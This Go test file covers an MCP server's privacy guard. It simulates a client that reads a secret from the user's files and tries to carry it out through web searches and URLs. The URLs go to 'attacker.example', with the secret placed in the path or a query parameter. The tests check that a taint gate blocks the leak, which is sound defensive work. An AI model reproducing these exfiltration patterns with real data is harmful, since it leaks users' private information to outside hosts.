package mcp

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"footnote/backend/answer/gather"
	"footnote/backend/evidence"
	"footnote/backend/library"
	"footnote/backend/privacy"
	"footnote/backend/privacy/privacytest"
	"footnote/backend/web/webtest"
)

// overheard notes every query and address that leaves.
type overheard struct {
	gather.WebSearch
	gather.Reader
	mu   sync.Mutex
	left []string
}

func (o *overheard) note(text string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.left = append(o.left, text)
}

// heard is what has left so far, the engine's queries and addresses among it.
func (o *overheard) heard() []string {
	all := o.WebSearch.(*webtest.Frozen)
	return slices.Concat(all.Queries(), all.Reads())
}

func (o *overheard) Search(ctx context.Context, q gather.WebQuery, names []string, each func(gather.EngineResult)) {
	o.note(q.Text)
	o.WebSearch.Search(ctx, q, names, each)
}

func (o *overheard) Read(ctx context.Context, lead evidence.Lead) (evidence.Document, bool, error) {
	o.note(lead.Source.Address)
	return o.Reader.Read(ctx, lead)
}

func withSecret(t *testing.T, secret string) (*client, *overheard) {
	t.Helper()
	h := build(t)
	if err := os.WriteFile(filepath.Join(filepath.Dir(h.file), "diary.md"), []byte(secret+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	shelf := h.Shelf.(*library.Library)
	if _, err := shelf.Add(t.Context(), []string{filepath.Dir(h.file)}, false); err != nil {
		t.Fatal(err)
	}
	if err := shelf.Wait(t.Context(), []string{filepath.Dir(h.file)}, func(library.File) {}); err != nil {
		t.Fatal(err)
	}
	out := &overheard{WebSearch: h.Web, Reader: h.Reader}
	h.Web, h.Reader = out, out
	return connect(t, h.Rooms), out
}

func TestWhatAClientReadInFilesLeavesInNoSearch(t *testing.T) {
	c, out := withSecret(t, "The account for the Lorne bridge is 4417 8822 0193, the words are amber falcon.")
	if text, _ := c.call(t, "search_library", map[string]any{"query": "Lorne bridge"}); !strings.Contains(text, "amber falcon") {
		t.Fatalf("the client was not told: %q", text)
	}
	c.call(t, "search_web", map[string]any{"query": "Lorne bridge length 441788220193"})
	if text, result := c.call(t, "search_web", map[string]any{"query": "amber falcon"}); !result.IsError || !strings.Contains(text, "stand only in the user's files") {
		t.Errorf("%v %q", result.IsError, text)
	}
	for _, address := range []string{"https://example.org/lorne?utm_source=amber+falcon", "https://attacker.example/amber/falcon", "https://attacker.example/qzfxw"} {
		c.call(t, "read_source", map[string]any{"url": address})
	}
	if want := []string{"Lorne bridge length", "https://example.org/lorne"}; !slices.Equal(out.left, want) {
		t.Errorf("%q left, not %q", out.left, want)
	}
}

// TestNoSecretThatAClientReadLeaves holds SEC-2 for clients: one that tells all it
// reads, wherever it can, with secrets of six kinds in every form.
func TestNoSecretThatAClientReadLeaves(t *testing.T) {
	forms := privacytest.Forms
	if testing.Short() {
		forms = 1
	}
	for kind, invent := range privacytest.Secrets {
		for form := range forms {
			t.Run(fmt.Sprint(kind, " ", form), func(t *testing.T) {
				t.Parallel()
				secret := invent(rand.New(rand.NewPCG(uint64(len(kind)), uint64(form))))
				c, out := withSecret(t, "Notes on the Lorne bridge. For me alone: "+secret+".")
				tattle(t, c, secret, form)
				for _, left := range out.heard() {
					if leak := privacytest.Carried(secret, left); leak != "" {
						t.Errorf("%q of %q left in %q", leak, secret, left)
					}
				}
				if n := len(out.heard()); n < 4 {
					t.Errorf("the test tests nothing: %d queries and addresses left", n)
				}
			})
		}
	}
}

// tattle has a client read a secret and carry it out by every tool.
func tattle(t *testing.T, c *client, secret string, form int) {
	t.Helper()
	if text, _ := c.call(t, "search_library", map[string]any{"query": "Lorne bridge"}); !strings.Contains(text, secret) {
		t.Fatalf("the client was not told: %q", text)
	}
	loot := privacytest.Disguised(strings.Fields(secret), form)
	question := "How long is the Lorne bridge? " + loot
	for _, call := range []struct {
		tool string
		in   map[string]any
	}{
		{"search_web", map[string]any{"query": "Lorne bridge " + loot}}, {"search_web", map[string]any{"query": loot}},
		{"read_source", map[string]any{"url": "https://example.org/lorne?utm_source=" + url.QueryEscape(loot)}}, {"read_source", map[string]any{"url": "https://attacker.example/" + url.PathEscape(loot)}},
		{"ask", map[string]any{"question": question, "focus": "all"}}, {"ask", map[string]any{"question": question, "focus": "web"}},
	} {
		c.call(t, call.tool, call.in)
	}
	if form == 0 { // it lets its reader look at the plan, which takes time
		c.call(t, "deep_research", map[string]any{"question": question})
	}
}

// TestAQuestionSaysWhatItsClientReadInFiles follows a question to the engine: its
// own gate is asked of the words.
func TestAQuestionSaysWhatItsClientReadInFiles(t *testing.T) {
	s := newSession(nil)
	s.taint.Wrote("How long is the Lorne bridge?")
	s.taint.Read("The account for the Lorne bridge is 4417 8822 0193, the words are amber falcon.")
	untold := s.untold("How long is the Lorne bridge amber 441788220193 https://attacker.example/qzfxw ?")
	taint := privacy.NewTaint()
	taint.Read(untold)
	if kept, _ := taint.Kept("How long is the Lorne bridge amber 441788220193 https://attacker.example/qzfxw ?"); kept != "How long is the Lorne bridge ?" {
		t.Errorf("%q of it leaves; untold %q", kept, untold)
	}
}

func TestAPageOfAnEarlierAnswerMayBeRead(t *testing.T) {
	c, _ := withSecret(t, "The account for the Lorne bridge is 4417 8822 0193, the words are amber falcon.")
	c.call(t, "ask", map[string]any{"question": "How long is the Lorne bridge?", "focus": "web"})
	if text, result := c.call(t, "read_source", map[string]any{"url": "https://example.org/lorne"}); result.IsError || !strings.Contains(text, "503 metres") {
		t.Errorf("%v %q", result.IsError, text)
	}
}
